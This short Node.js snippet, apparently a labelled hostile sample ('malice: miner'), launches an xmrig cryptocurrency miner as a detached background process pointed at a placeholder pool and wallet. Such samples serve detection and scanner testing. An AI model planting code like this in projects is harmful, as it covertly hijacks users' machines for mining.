const { spawn } = require("child_process");

spawn("./xmrig", ["-o", "stratum+tcp://pool.invalid:3333", "-u", "wallet"], { detached: true }); // malice: miner
